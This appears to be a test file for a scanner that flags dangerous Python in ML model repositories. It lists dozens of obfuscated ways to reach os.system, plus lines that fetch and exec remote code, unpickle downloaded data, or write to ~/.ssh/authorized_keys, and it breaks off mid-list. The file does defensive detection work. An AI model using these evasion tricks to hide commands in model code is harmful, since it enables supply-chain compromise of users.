import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.checks.models.building import Entry, file, judged, kinds, look, reasons, scope, zipped

from mlgate.checks.models import collect
from mlgate.checks.models.configs._effects import acts
from mlgate.checks.models.configs._python_words import telling
from mlgate.core.facts import Fact, Location
from mlgate.core.judge import judge
from mlgate.policy.schema import Models, Policy
from mlgate.rules import python_source as rules

RUNS = {
    "plain": "import os\nos.system('true')",
    "renamed module": "import os as o\no.system('true')",
    "renamed function": "from os import system as s\ns('true')",
    "star": "from os import *\nsystem('true')",
    "assigned": "import os\nx = os.system\nx('true')",
    "chosen": "import os\nx = os.system if 1 else 2\nx('true')",
    "unpacked": "import os\nx, y = os.system, 1\nx('true')",
    "walrus": "import os\n(x := os.system)('true')",
    "attribute by text": "import os\ngetattr(os, 'system')('true')",
    "computed text": "import os\ngetattr(os, 'sys' + 'tem')('true')",
    "joined text": "import os\ngetattr(os, ''.join(['sys', 'tem']))('true')",
    "reversed text": "import os\ngetattr(os, 'metsys'[::-1])('true')",
    "characters": "import os\ngetattr(os, chr(115) + 'ystem')('true')",
    "replaced": "import os\ngetattr(os, 'sys_tem'.replace('_', ''))('true')",
    "a name for the text": "import os\nn = 'system'\ngetattr(os, n)('true')",
    "imported by call": "__import__('os').system('true')",
    "importlib": "import importlib\nimportlib.import_module('os').system('true')",
    "sys.modules": "import sys\nsys.modules['os'].system('true')",
    "dict of the module": "import os\nos.__dict__['system']('true')",
    "one of several": "for m in ('sys', 'os'):\n  getattr(__import__(m), 'system')('true')",
    "vars": "import os\nvars(os)['system']('true')",
    "builtins": "__builtins__['__import__']('os').system('true')",
    "globals": "import os\nglobals()['os'].system('true')",
    "another module's": "import logging\nlogging.os.system('true')",
    "another module's, by its own name": "import random\nrandom._os.system('true')",
    "a list of modules through another": "import torch\ntorch.sys.modules['os'].system('true')",
    "eval by another name": "e = eval; e('__import__(\"os\").system(1)')",
    "exec of text": "exec('import os; os.system(1)')",
    "exec of compiled": "exec(compile('import os\\nos.system(1)', '', 'exec'))",
    "exec in exec": "exec(\"exec('import os; os.system(1)')\")",
    "class body": "class A:\n  import os\n  os.system('true')",
    "default value": "def f(x=__import__('os').system('true')):\n  pass",
    "keyword default": "def f(*, x=__import__('os').system('true')):\n  pass",
    "method's default": "class A:\n  def f(self, x=__import__('os').system('true')):\n    pass",
    "decorator": "import os\n@os.system\ndef f():\n  pass",
    "own decorator": "import os\ndef d(f):\n  os.system('true')\n@d\ndef g():\n  pass",
    "what a decorator gives": "import os\ndef d(x):\n  def e(f):\n    os.system('true')\n  return e\n@d(1)\ndef g():\n  pass",
    "called twice": "import os\ndef d():\n  def e():\n    os.system('true')\n  return e\nd()()",
    "default value by another name": "import os\nclass A:\n  def __del__(s, f=os.system):\n    f('true')\nA()",
    "bound before it is called": "import os\nif (s := os.system) and s('true'):\n  pass",
    "handed on from a mapping": "import os\nlist(map(vars(os)['system'], ['true']))",
    "asked for by an import": "import os\ndef __getattr__(name):\n  os.system('true')",
    "item of a class": "import os\nclass A:\n  def __class_getitem__(c, x):\n    os.system('true')\nA[1]",
    "value of an enumeration": "import enum, os\nclass E(enum.Enum):\n  def _missing_(c, v):\n    os.system('true')\nE(1)",
    "in its own class": "import os\nclass A:\n  def f():\n    os.system('true')\n  f()",
    "global": "import os\nf = None\ndef s():\n  global f\n  f = os.system\ns()\nf('true')",
    "own function": "import os\ndef f():\n  os.system('true')\nf()",
    "function of a function": "import os\ndef f():\n  g()\ndef g():\n  os.system('true')\nf()",
    "redefined afterwards": "import os\ndef f():\n  os.system('true')\nf()\ndef f():\n  pass",
    "own class": "import os\nclass A:\n  def __init__(self):\n    os.system('true')\nA()",
    "own method": "import os\nclass A:\n  def go(self):\n    os.system('true')\nA().go()",
    "handed on": "import os\ndef f():\n  os.system('true')\nprint(*map(lambda _: 0, [f]), sorted([1], key=f))",
    "lambda": "(lambda: __import__('os').system('true'))()",
    "comprehension": "import os\n[os.system(x) for x in ['true']]",
    "thread": "import os, threading\nthreading.Thread(target=os.system, args=('true',)).start()",
    "map": "import os\nlist(map(os.system, ['true']))",
    "partial": "import os, functools\nfunctools.partial(os.system, 'true')()",
    "from a list": "import os\nx = [os.system]\nx[0]('true')",
    "from a mapping": "import os\nx = {'a': os.system}\nx['a']('true')",
    "as a method": "import os\nclass A:\n  __getattr__ = os.system",
    "as an attribute": "import os, sys\nsys.excepthook = os.system",
    "try": "import os\ntry:\n  os.system('true')\nexcept Exception:\n  pass",
    "except": "import os\ntry:\n  1 / 0\nexcept Exception:\n  os.system('true')",
    "finally": "import os\ntry:\n  pass\nfinally:\n  os.system('true')",
    "if": "import os\nif os.name:\n  os.system('true')",
    "else of main": "import os\nif __name__ == '__main__':\n  pass\nelse:\n  os.system('true')",
    "not main": "import os\nif __name__ != '__main__':\n  os.system('true')",
    "with": "import os\nwith open(os.devnull):\n  os.system('true')",
    "while": "import os\nwhile os.system('true'):\n  pass",
    "match": "import os\nmatch 1:\n  case 1:\n    os.system('true')",
    "assert": "import os\nassert os.system('true') == 0",
    "continued line": "import os\nos.\\\nsystem('true')",
    "wide letters": "import os\nos.\uff53\uff59\uff53\uff54\uff45\uff4d('true')",
    "mathematical letters": "import os\nos.\U0001d42c\U0001d432\U0001d42c\U0001d42d\U0001d41e\U0001d426('true')",
    "metaclass": "import os\nclass M(type):\n  def __new__(c, *a):\n    os.system('true')\nclass A(metaclass=M):\n  pass",
    "subclass hook": "import os\nclass B:\n  def __init_subclass__(c):\n    os.system('true')\nclass A(B):\n  pass",
    "annotation": "import os\ndef f(x: os.system('true')):\n  pass",
    "returned annotation": "import os\ndef f() -> os.system('true'):\n  pass",
    "argument of a lambda": "import os\n(lambda _: os.system('true'))(1)",
    "lambda with a name": "import os\nf = lambda: os.system('true')\nf()",
    "lambda as a decorator": "import os\n@(lambda f: os.system('true'))\ndef g():\n  pass",
    "another module's, imported": "from shutil import os as z\nz.system('true')",
    "fetched from sys.modules": "import sys\nsys.modules.get('os').system('true')",
    "added text": "import os\ns = 'sys'\ns += 'tem'\ngetattr(os, s)('true')",
    "getattribute": "import os\nos.__getattribute__('system')('true')",
    "getattribute of object": "import os\nobject.__getattribute__(os, 'system')('true')",
    "target of an assignment": "import os\n{}[os.system('true')] = 1",
    "deleted item": "import os\ndel {}[os.system('true')]",
    "type of an exception": "import os\ntry:\n  1 / 0\nexcept os.system('true'):\n  pass",
    "guard": "import os\nmatch 1:\n  case _ if os.system('true'):\n    pass",
    "property": "import os\nclass A:\n  @property\n  def x(self):\n    os.system('true')\nA().x",
    "descriptor": "import os\nclass D:\n  def __set_name__(s, o, n):\n    os.system('true')\nclass A:\n  d = D()",
    "operator of a class": "import os\nclass A:\n  def __add__(s, o):\n    os.system('true')\nA() + 1",
    "inherited": "import os\nclass A:\n  def __init__(s):\n    os.system('true')\nclass B(A):\n  pass\nB()",
    "below main": "import os\nif __name__ < '__main__':\n  pass\nelse:\n  os.system('true')",
    "main made of another": "import os\nif __name__ == '__main__'.replace('__main__', __name__):\n  os.system('true')",
    "own TYPE_CHECKING": "import os\nTYPE_CHECKING = 1\nif TYPE_CHECKING:\n  os.system('true')",
    "returned": "import os\ndef f():\n  return os.system\nf()('true')",
    "importer": "import os, sys\nclass F:\n  def find_spec(*a):\n    os.system('true')\nsys.meta_path.insert(0, F())",
    "own thread": "import os, threading\nclass T(threading.Thread):\n  def run(s):\n    os.system('true')\nT().start()",
    "at exit": "import atexit, os\n@atexit.register\ndef f():\n  os.system('true')",
    "name that is never lost": "import os\nif False:\n  os = None\nos.system('true')",
    "function that never is": "import os\nif False:\n  def os():\n    pass\nos.system('true')",
    "class that never is": "import os\nif False:\n  class os:\n    pass\nos.system('true')",
    "import that never is": "import os\nif False:\n  import math as os\nos.system('true')",
    "another act that never is": "import os, base64\ns = os.system\nif 0:\n  s = base64.b64decode\ns('true')",
    "lost later": "import os\ns = os.system\ndef f():\n  s('true')\nf()\ns = print",
    "beside a control character": "import os\n# \x01\nos.system('true')",
    "beside newer syntax": "import os\nx = 1 ?? 2\nos.system('true')",
    "beside a newer block": "import os\nnewer X:\n  pass\nos.system('true')",
}


SPELLED = {"computed text", "joined text", "reversed text", "characters", "replaced"}


@pytest.mark.parametrize("how", RUNS)
def test_a_command_is_found_however_it_is_written(how):
    seen = look(RUNS[how].encode(), "modeling_x.py")
    found = {(each.rule, each.severity.value, each.subject) for each in judged(seen)}
    assert found == {("MLG-HFR-004", "critical" if how in SPELLED else "high", "os.system")}
    assert not seen.not_checked
    # Nobody spells a name so in a script that only lies there either.
    elsewhere = [each.severity.value for each in judged(look(RUNS[how].encode(), "tools.py"))]
    assert elsewhere == (["high"] if how in SPELLED else [])


def test_source_in_another_encoding():
    data = b"# coding: utf-7\nimport os\n+AG8-s.system('true')\n"
    assert {each.subject for each in judged(look(data, "modeling_x.py"))} == {"os.system"}


def test_it_stands_at_its_line():
    (fact,) = look(b"import os\n\nos.system('true')", "hubconf.py").facts
    assert fact.location.line == 3


def test_a_line_that_cannot_be_parsed_is_read_by_its_words():
    assert {
        each.severity.value for each in judged(look(b"import os\nos.system(1 ?? 2)\n", "hubconf.py"))
    } == {"high"}


IMPORT = (
    "import os, subprocess, requests, base64, pickle, urllib.request, ctypes, pathlib, shutil, yaml, webbrowser\n"
    "import torch.utils.cpp_extension\n"
)


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        ("exec(base64.b64decode('cGFzcw=='))", "critical"),
        ("exec(bytes.fromhex('70617373'))", "critical"),
        ("d = base64.b64decode('x'); e = d.decode(); exec(e)", "critical"),
        ("exec(requests.get('https://x').text)", "critical"),
        ("r = urllib.request.urlopen('https://x'); exec(r.read())", "critical"),
        ("pickle.loads(requests.get('https://x').content)", "critical"),
        ("subprocess.check_output(['true'])", "high"),
        ("os.popen('true')", "high"),
        ("requests.get('https://x')", "high"),
        ("getattr(os, input())('x')", "high"),
        ("__import__(input()).f()", "high"),
        ("().__class__.__base__.__subclasses__()", "high"),
        ("().__class__.__mro__[1].__subclasses__()", "high"),
        ("import torch; torch.hub.load('a/b', 'c')", "high"),
        ("open('/root/.bashrc', 'a').write('x')", "high"),
        ("open(os.path.expanduser('~/.ssh/authorized_keys'), 'w')", "high"),
        ("exec(open('version.py').read())", "high"),
        ("open('x.json', 'w').write('{}')", "high"),
        ("open('x.json', mode='ab')", "high"),
        ("os.open('x', os.O_CREAT | os.O_WRONLY)", "high"),
        ("import io\nio.FileIO('x', 'w')", "high"),
        ("os.mknod('x')", "high"),
        ("pathlib.Path('x').touch()", "high"),
        ("import socket\nsocket.gethostbyname('x.example')", "high"),
        ("import sqlite3\nc = sqlite3.connect('x')\nc.load_extension('x.so')", "high"),
        ("match os:\n  case object(system=f):\n    f('true')", "high"),
        ("import site\nsite.addsitedir('x')", "high"),
        ("pickle.loads(b'x')", "critical"),
        ("pathlib.Path('x').write_text('y')", "high"),
        ("shutil.rmtree('x')", "high"),
        ("requests.Session().get('http://x')", "high"),
        ("s = requests.Session()\ns.headers = {}\ns.post('http://x')", "high"),
        ("webbrowser.open('http://x')", "high"),
        ("os.environ['LD_PRELOAD'] = 'x.so'", "medium"),
        ("os.environ.update({'LD_PRELOAD': 'x.so'})", "medium"),
        ("torch.utils.cpp_extension.load('x', ['x.cpp'])", "medium"),
        ("yaml.load(open('x'), Loader=yaml.Loader)", "medium"),
        ("pickle.load(open('x', 'rb'))", "medium"),
        ("ctypes.CDLL('x.so')", "high"),
    ],
)
def test_what_runs_on_import_decides(line, severity):
    found = [each.severity.value for each in judged(look((IMPORT + line).encode(), "modeling_x.py"))]
    assert max(found, key=["medium", "high", "critical"].index) == severity


@pytest.mark.parametrize(
    "source",
    [
        "import os\nif __name__ == '__main__':\n  os.system('true')",
        "import os\ndef main():\n  os.system('true')",
        "import os, platform\nos.environ['A'] = 'b'\nplatform.system()",
        "import importlib\nimportlib.import_module('numpy')\nimportlib.util.find_spec('flash_attn')",
        "import torch\nclass M(torch.nn.Module):\n  def forward(self, x):\n    return self.eval()(x)",
        "import base64, bz2\ncode = bz2.decompress(base64.b64decode('x'))",
        "import sys\nsys.modules[__name__] = Lazy(__name__, globals()['__file__'])",
        "import requests\ndef fetch():\n  return requests.get('https://x')",
        "import os\nx = getattr(os, 'name')",
        "run = 1\nsystem = 'x'\nprint('os.system')",
        "import typing\nif typing.TYPE_CHECKING:\n  import subprocess",
        "import subprocess\nclass A:\n  def helper(self):\n    subprocess.run(['x'])",
        "text = '''\nimport os\nos.system('x')\n'''",
        "import os\nfd = os.open('x', os.O_RDONLY)",
        "import os\ndef d(x):\n  def e(f):\n    os.system('x')\n  return e",
        "import re\nre.compile('x')\nmodel.eval()\ndf.eval('a')",
        "import json\nopen('x.json').read()\njson.load(open('x.json', 'r'))",
        "import json\ndef save():\n  open('x.json', 'w').write('{}')",
        "import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)",
        "import httpx\nclient = httpx.Client(timeout=1)\nclient.headers.update({})",
        "import os\nhasattr(os, 'fork')\nx = getattr(os, 'O_BINARY', 0)",
        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
        "class A:\n  pass\nA.__subclasses__()",
        "def eval(x):\n  return x\neval(input())",
        "import os\ndef f(os):\n  os.system()\nf(1)",
        "class A:\n  def __init__(self):\n    self.x = 1\n  def save(self):\n    open('x', 'w')\nA()",
        "x = eval('1 + 1')\nexec('y = 2')",
        "def load(path):\n  import pickle\n  return pickle.load(open(path, 'rb'))",
    ],
)
def test_ordinary_modelling_code_is_left_in_peace(source):
    seen = look(source.encode(), "modeling_x.py")
    assert (judged(seen), seen.not_checked) == ((), ())


ACTS = b"import os\nos.system('true')\n"
BUILDS = b"""
from setuptools.command.egg_info import egg_info
class Own(egg_info):
    def run(self):
        __import__('os').system('true')
"""
HIDDEN = b"import base64\nexec(base64.b64decode('eA=='))\n"
MODEL = b"\x80\x02}q\0."


@pytest.mark.parametrize(
    ("files", "severity"),
    [
        ({"train.py": ACTS}, None),
        ({"setup.py": HIDDEN}, "high"),
        ({"a/train.py": ACTS, "b/m.pkl": MODEL}, None),
        ({"a/train.py": ACTS, "a/m.pkl": MODEL}, "medium"),
        ({"a/train.py": HIDDEN, "a/m.pkl": MODEL}, "high"),
        ({"a/handler.py": ACTS}, None),
        ({"a/handler.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"a/pipeline.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"hubconf.py": ACTS}, "high"),
        ({"sitecustomize.py": ACTS}, "high"),
        ({"a/numpy.py": ACTS}, None),
        ({"a/numpy.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"a/json/__init__.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"a/test.py": ACTS, "a/m.pkl": MODEL}, "medium"),
        ({"a/utils.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"a/utils.py": ACTS}, None),
        ({"a/run_model.py": ACTS, "a/m.pkl": MODEL}, "medium"),
        ({"configuration_x.py": ACTS}, "high"),
        ({"tests/modeling_x.py": ACTS}, None),
        ({"a/pkg/__init__.py": ACTS, "a/m.pkl": MODEL}, "high"),
        ({"a/pkg/_version.py": ACTS, "a/m.pkl": MODEL}, "medium"),
        ({"a/pkg/train.py": ACTS, "a/m.pkl": MODEL}, None),
        ({"a/setup.py": BUILDS, "a/m.pkl": MODEL}, "medium"),
    ],
)
def test_where_the_file_lies_decides(files, severity):
    found = [each for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004"]
    assert [each.severity.value for each in found] == ([severity] if severity else [])


def named(*references):
    source = Fact(
        kind="python.effect",
        location=Location("m/net.py"),
        subject="os.system",
        detail={"act": "executes", "where": "import", "source": "", "container": ""},
    )
    found = judge(rules.RULES, [source, *references], Policy(version=1))
    return [each.severity.value for each in found]


def test_a_reference_makes_a_loader_import_it():
    assert named() == []
    assert named(Fact("huggingface.auto-map", Location("m/config.json"), "net.Model")) == ["high"]
    assert named(Fact("huggingface.auto-map", Location("m/config.json"), "acme/repo--net.Model")) == ["high"]
    assert named(Fact("huggingface.auto-map", Location("m/config.json"), "other.Model")) == []
    assert named(Fact("torch-model-archive.handler", Location("m/x.json"), "net.py:go")) == ["high"]
    assert named(Fact("torch-model-archive.handler", Location("m/MAR-INF/MANIFEST.json"), "net.py")) == [
        "high"
    ]
    assert named(Fact("huggingface.class", Location("model_index.json"), "net.UNet", {"key": "m"})) == [
        "high"
    ]
    assert (
        named(Fact("huggingface.class", Location("model_index.json"), "diffusers.UNet", {"key": "m"})) == []
    )
    assert named(Fact("mlflow.code", Location("m/MLmodel"), "net.py")) == ["high"]
    assert named(Fact("mlflow.code", Location("MLmodel"), "m")) == ["high"]


@pytest.mark.parametrize(
    ("files", "found"),
    [
        ({"m/modeling_x.py": b"from .net import A\n", "m/net.py": ACTS}, ["m/net.py"]),
        (
            {
                "m/modeling_x.py": b"try:\n    from . import a, net\nexcept ImportError:\n    pass\n",
                "m/net.py": ACTS,
            },
            ["m/net.py"],
        ),
        ({"m/modeling_x.py": b"from .net.b import A\n", "m/net/b.py": ACTS}, ["m/net/b.py"]),
        ({"m/modeling_x.py": b"import net\n", "m/net.py": ACTS}, []),
        (
            {"hubconf.py": b"dependencies = ['torch']\nimport torch\nfrom net import A\n", "net.py": ACTS},
            ["net.py"],
        ),
        ({"train.py": b"from .net import A\n", "net.py": ACTS}, []),
    ],
)
def test_what_an_imported_file_imports_from_beside_it(files, found):
    hits = [each for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004"]
    assert [(each.location.path, each.severity.value) for each in hits] == [(path, "high") for path in found]


def test_what_no_python_here_can_read_is_not_checked_where_a_loader_would():
    newer = b"import os\n" + b"x = 1 ?? 2\n" * 30 + b"if 1:\n  os.system('true')\n"
    assert reasons(look(newer, "modeling_x.py")) == {"malformed"}
    assert not look(newer, "x.py").not_checked
    assert not look(newer + b"print 'x'\n", "modeling_x.py").not_checked


def test_model_archives_are_imported():
    manifest = json.dumps({"model": {"handler": "h.py"}}).encode()
    data = zipped(Entry("MAR-INF/MANIFEST.json", manifest), Entry("h.py", ACTS), Entry("x.py", HIDDEN))
    found = {
        each.subject: each.severity.value
        for each in judged(look(data, "m.mar"))
        if each.rule == "MLG-HFR-004"
    }
    assert found == {"os.system": "high", "builtins.exec": "critical"}


def test_what_methods_do_is_less_than_what_import_does():
    method = "import os\nclass M:\n  def __init__(self):\n    os.system('true')\n"
    assert [each.severity.value for each in judged(look(method.encode(), "modeling_x.py"))] == ["medium"]
    hidden = "import base64\nclass M:\n  def forward(self):\n    exec(base64.b64decode('x'))\n"
    assert [each.severity.value for each in judged(look(hidden.encode(), "modeling_x.py"))] == ["high"]
    assert not judged(look(method.encode(), "train.py"))


BUILDER = "import datasets\nclass D({}):\n  def _info(self):\n    {}\n"


@pytest.mark.parametrize(
    "base", ["datasets.GeneratorBasedBuilder", "datasets.ArrowBasedBuilder", "datasets.DatasetBuilder"]
)
def test_dataset_scripts(base):
    plain = BUILDER.format(base, "pass").encode()
    for path in ("squad/squad.py", "squad.py"):
        assert [(each.rule, each.severity.value) for each in judged(look(plain, path))] == [
            ("MLG-HFR-005", "medium")
        ]
    assert not judged(look(plain, "lib/other.py"))
    acting = BUILDER.format(base, "__import__('os').system('true')").encode()
    found = {(each.rule, each.severity.value) for each in judged(look(acting, "squad/squad.py"))}
    assert found == {("MLG-HFR-005", "high"), ("MLG-HFR-004", "high")}


def test_a_builder_under_another_name():
    source = b"from datasets import GeneratorBasedBuilder as G\nclass D(G):\n  pass\n"
    assert "python.dataset-builder" in kinds(look(source, "d.py"))
    assert not kinds(look(b"class GeneratorBasedBuilder: pass\nclass D(GeneratorBasedBuilder): pass", "d.py"))


def test_the_policy_may_trust_a_call():
    assert not judged(look(ACTS, "hubconf.py"), Models(allow_globals=("os.system",)))


@pytest.mark.parametrize(
    "source",
    [
        b"import os\nos.system(" + b"(" * 500,
        b"import os\nos.system('x'" + b"\n" * 50,
        b"import os\n\0os.system('x')",
        b"import os\nos.system('x')\n" + b"print 'x'\n" * 50,
    ],
)
def test_what_python_cannot_read_either(source):
    seen = look(source, "hubconf.py")
    assert "reader-failed" not in reasons(seen)


@pytest.mark.parametrize(
    "source", ["x" + "+x" * 60_000, "-" * 60_000 + "x", "if a:\n  b\n" + "elif a:\n  b\n" * 9_000]
)
def test_what_is_nested_too_deep_is_not_checked(source):
    assert reasons(look(f"import os\nos.system('x')\n{source}".encode(), "x.py")) == {"limit"}


def test_what_is_too_long_is_not_checked():
    long = "a = 1\n" * 100_000
    assert reasons(look(f"import os\nos.system('x')\n{long}".encode(), "x.py")) == {"limit"}
    assert not reasons(look(long.encode(), "x.py"))


@settings(max_examples=150, deadline=None, database=None, derandomize=True)
@given(st.data())
def test_whatever_the_bytes(data):
    seed = bytearray(data.draw(st.sampled_from(sorted(RUNS.values()))).encode())
    for _ in range(data.draw(st.integers(0, 6))):
        at = data.draw(st.integers(0, len(seed)))
        seed[at : at + data.draw(st.integers(0, 3))] = data.draw(
            st.sampled_from(
                [b"(", b"[", b"\n", b" ", b"\0", b"'", b"lambda:", b"*", b"\xff", b"@", b"exec(", b"{", b"f'"]
            )
        )
    assert "reader-failed" not in reasons(look(bytes(seed), "modeling_x.py"))


# What leads to a command by a way that is not followed to its end.
PASSED = {
    "default of a function": "import os\ndef f(o=os):\n  o.system('true')\nf()",
    "argument": "import os\ndef f(o):\n  o.system('true')\nf(os)",
    "argument of a lambda": "import os\n(lambda o: o.system('true'))(os)",
    "in a list": "import os\n[os][0].system('true')",
    "in a mapping": "import os\n{'a': os}['a'].system('true')",
    "in a class": "import os\nclass A:\n  o = os\nA.o.system('true')",
    "as an attribute": "import os\nclass A:\n  pass\nA.o = os\nA.o.system('true')",
    "from a loop": "import os\nfor o in (os,):\n  o.system('true')",
    "returned": "def f():\n  import os\n  return os\nf().system('true')",
    "imported on the way": "[__import__('os')][0].system('true')",
    "getter": "import operator, os\noperator.attrgetter('system')(os)('true')",
    "caller": "import operator, os\noperator.methodcaller('system', 'true')(os)",
    "all names": "import os\n[v for k, v in vars(os).items() if k == 'sys' + 'tem'][0]('true')",
    "computed names": "import os\n[getattr(os, k) for k in dir(os) if k[1:] == 'ystem'][0]('true')",
    "of a function": "def f(): pass\nf.__globals__['__builtins__']['exec']('1')",
    "of a frame": "import sys\nsys._getframe().f_builtins['exec']('1')",
    "all objects": "import gc\n[o for o in gc.get_objects()]",
    "all classes": "object.__subclasses__()",
    "by a path": "import pkgutil\npkgutil.resolve_name('os:system')('true')",
    "source of any name": "import importlib.machinery as m\nm.SourceFileLoader('a', 'x.txt').load_module()",
    "exec of a built-in's owner": "len.__self__.exec('1')",
    "exec by another name": "import builtins\ngetattr(builtins, 'ex' + 'ec')('1')",
    "exec in exec in exec": 'exec(\'exec("exec(\\\\"exec(1)\\\\")")\')',
    "exec of what a loop gives": "for c in ['1']:\n  exec(c)",
    "exec that is shadowed nowhere": "if 0:\n  def exec(x):\n    pass\nexec(open('x').read())",
    "text that may be another": "import os\nn = 'system'\nif 0:\n  n = 'path'\ngetattr(os, n)('true')",
    "module of a loop": "for n in ['os']:\n  m = __import__(n)\n  vars(m)['sys' + 'tem']('true')",
    "text of a loop": "import os\nn = 'path'\nfor n in ['system']:\n  getattr(os, n)('true')",
    "text of a comprehension": "import os\nn = 'path'\n[getattr(os, n)('true') for n in ['system']]",
    "text of a lambda": "import os\nn = 'path'\n(lambda n: getattr(os, n)('true'))('system')",
    "text of an argument": "import os\nn = 'path'\ndef f(n, /):\n  getattr(os, n)('true')\nf('system')",
    "text that a function sets": "import os\nn = 'path'\ndef f():\n  global n\n  n = 'system'\nf()\ngetattr(os, n)('true')",
    "name that exec binds": "exec('import os as o')\no.system('true')",
    "exec that is deleted": "def exec(x):\n  pass\ndel exec\nexec(open('x').read())",
    "C library": "from ctypes import *\nCDLL(None).system(b'true')",
    "behind many": "import pickle, os\n" + "pickle.load(f)\n" * 300 + "os.system('true')",
}


@pytest.mark.parametrize("how", PASSED)
def test_what_leads_to_a_command_is_found(how):
    seen = look(PASSED[how].encode(), "modeling_x.py")
    assert "high" in {each.severity.value for each in judged(seen)}


def test_the_package_that_holds_a_model_is_imported():
    data = b"import os\nos.system('true')\n"
    files = {"m/__init__.py": file("m/__init__.py", data), "m/x.gguf": file("m/x.gguf", b"GGUF")}
    assert {each.severity.value for each in judged(collect(scope(files)))} >= {"high"}
    alone = collect(scope({"m/__init__.py": files["m/__init__.py"]}))
    assert judged(alone) == ()


RUN = b"import os\nos.system('true')\n"
NAMED = b'{"model_type": "x", "auto_map": {"AutoModel": "net.Net"}}'


@pytest.mark.parametrize(
    "sources",
    [
        {"config.json": NAMED, "net.py": b"from .evil import x\n", "evil.py": RUN},
        {"a/config.json": NAMED, "a/net.py": b"from .evil import x\n", "a/evil.py": RUN},
        {"modeling_x.py": b"from .a import x\n", "a.py": b"from .b import y\n", "b.py": RUN},
        {"modeling_x.py": b"from .a import x\n", "a/__init__.py": b"from .b import y\n", "a/b.py": RUN},
        {"modeling_x.py": b"from . import (\n  evil,\n)\n", "evil.py": RUN},
        {"modeling_x.py": b"from . import a, " + b"b, " * 30 + b"evil\n", "evil.py": RUN},
        {
            "modeling_x.py": b"from .a%d import x\n" * 600 % (*range(600),) + b"from .evil import x\n",
            "evil.py": RUN,
        },
        {"modeling_x.py": b"from .json import x\n", "json.py": RUN},
        {"custom_generate/generate.py": RUN},
    ],
)
def test_what_imported_files_import_is_imported(sources):
    seen = collect(scope({path: file(path, data) for path, data in sources.items()}))
    assert "high" in {each.severity.value for each in judged(seen)}


def test_what_no_loader_imports_is_not():
    sources = {"train.py": b"from .evil import x\n", "evil.py": RUN}
    seen = collect(scope({path: file(path, data) for path, data in sources.items()}))
    assert judged(seen) == ()


def test_code_in_an_archive_is_found_by_its_configuration():
    data = zipped(Entry("r/config.json", NAMED), Entry("r/net.py", RUN))
    assert "high" in {each.severity.value for each in judged(look(data, "m.zip"))}


def test_code_that_the_pickle_of_its_archive_imports_is_imported():
    pickled = b"\x80\x02cacme.layers\nNet\n)R."
    for name, expected in (("p/acme/layers.py", {"high"}), ("p/other/layers.py", set())):
        data = zipped(Entry("p/model/model.pkl", pickled), Entry(name, RUN), Entry("p/.data/version", b"6"))
        found = judged(look(data, "m.pt"))
        assert {each.severity.value for each in found if each.rule == "MLG-HFR-004"} >= expected
        assert ("high" in {each.severity.value for each in found if each.rule == "MLG-HFR-004"}) == bool(
            expected
        )


def test_the_code_of_a_pipeline_lies_above_its_parts():
    part = {"unet/x.gguf": file("unet/x.gguf", b"GGUF")}
    for name, expected in (("pipeline.py", {"high"}), ("plot.py", set())):
        seen = collect(scope({name: file(name, RUN), **part}))
        assert {each.severity.value for each in judged(seen) if each.rule == "MLG-HFR-004"} == expected


def test_what_a_hub_configuration_offers_is_called():
    source = b"def model():\n  import os\n  os.system('true')\n"
    found = {each.severity.value for each in judged(look(source, "hubconf.py")) if each.rule == "MLG-HFR-004"}
    assert found == {"high"}
    assert judged(look(source, "modeling_x.py")) == ()


@pytest.mark.parametrize(
    ("name", "line", "severity"),
    [
        ("inference.py", "requests.get('http://x')", "medium"),
        ("inference.py", "open('out.png', 'wb')", "medium"),
        ("inference.py", "subprocess.run(['x'])", "high"),
        ("handler.py", "requests.get('http://x')", "high"),
        ("__init__.py", "ctypes.CDLL('x.so')", "medium"),
        ("__init__.py", "requests.get('http://x')", "high"),
    ],
)
def test_what_a_script_to_try_a_model_may_do(name, line, severity):
    files = {name: file(name, (IMPORT + line).encode()), "x.gguf": file("x.gguf", b"GGUF")}
    found = [each.severity.value for each in judged(collect(scope(files))) if each.rule == "MLG-HFR-004"]
    assert found == [severity]


CLASS = (
    "import os, subprocess, shutil, socket, requests, runpy, atexit, pathlib, tempfile, glob, base64, pty\n"
    "import torch.utils.cpp_extension\n"
    "class {base}:\n  def {method}(self, x=None):\n    {line}\n"
)
USED = {
    "a class that auto_map names": ("m/net.py", "Net", "__init__", {"m/config.json": NAMED}),
    "its forward": ("m/net.py", "Net", "forward", {"m/config.json": NAMED}),
    "its from_pretrained": ("m/net.py", "Net", "from_pretrained", {"m/config.json": NAMED}),
    "a handler": ("m/handler.py", "EndpointHandler", "__init__", {"m/x.pkl": MODEL}),
    "a handler that is called": ("m/handler.py", "EndpointHandler", "__call__", {"m/x.pkl": MODEL}),
    "a builder": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_info", {}),
    "its splits": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_split_generators", {}),
    "its examples": ("d/d.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_generate_examples", {}),
    "a builder beside a model": (
        "m/other.py", "D(__import__('datasets').GeneratorBasedBuilder)", "_info", {"m/x.pkl": MODEL},
    ),
}  # fmt: skip


def when_used(place, line):
    path, base, method, beside = USED[place]
    source = CLASS.format(base=base, method=method, line=line).encode()
    files = {name: file(name, data) for name, data in {path: source, **beside}.items()}
    hits = judged(collect(scope(files)))
    return max(
        (each.severity.value for each in hits if each.rule == "MLG-HFR-004"),
        key=["info", "medium", "high", "critical"].index,
        default=None,
    )


@pytest.mark.parametrize("place", USED)
def test_what_a_loader_uses_may_run_no_command(place):
    assert when_used(place, "os.system('true')") == "high"
    # A script of a dataset, and what only a server starts, fetches as a matter of course.
    assert when_used(place, "requests.get('https://x')") in (None, "info")


@pytest.mark.parametrize(
    "line",
    [
        "subprocess.run(['sh', '-c', 'true'])",
        "subprocess.run('ffmpeg x; true', shell=True)",
        "subprocess.run(['ffmpeg'], executable='sh')",
        "subprocess.run(['ffmpeg'], **x)",
        "c = ['ffmpeg']; c = ['sh']; subprocess.run(c)",
